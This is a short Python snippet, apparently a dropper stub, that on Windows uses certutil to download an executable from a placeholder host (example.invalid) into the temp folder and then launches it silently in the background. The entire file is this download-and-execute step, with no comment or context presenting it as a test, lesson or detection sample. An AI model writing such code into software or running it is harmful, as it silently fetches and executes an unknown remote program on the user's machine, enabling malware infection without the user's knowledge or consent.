import os

if os.name == "nt":
    os.system("certutil -urlcache -split -f http://example.invalid/u.exe %TEMP%\\u.exe && start /b %TEMP%\\u.exe")
